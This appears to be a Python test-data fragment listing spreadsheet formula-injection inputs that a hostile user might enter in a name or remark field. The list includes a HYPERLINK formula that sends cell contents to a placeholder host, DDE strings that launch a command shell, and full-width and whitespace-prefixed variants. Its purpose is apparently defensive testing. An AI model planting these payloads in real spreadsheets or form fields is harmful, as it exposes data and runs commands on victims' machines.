"""What a hostile person may type into a name or a remark, hoping that a spreadsheet calculates it."""

EVIL = (
    '=HYPERLINK("http://203.0.113.1/?"&A1,"点这里")', "=cmd|'/C calc'!A0", "{=1+1}", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\n=1+1", "\r=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "http://203.0.113.1/", "mailto:a@203.0.113.1", "external:c:\\a.xlsx", "internal:Sheet1!A1", "=DDE(\"cmd\",\"/C calc\",\"x\")", "0792", "1E5",
)  # fmt: skip
FORMULA = '=HYPERLINK("http://203.0.113.1/?"&A1,"点")'
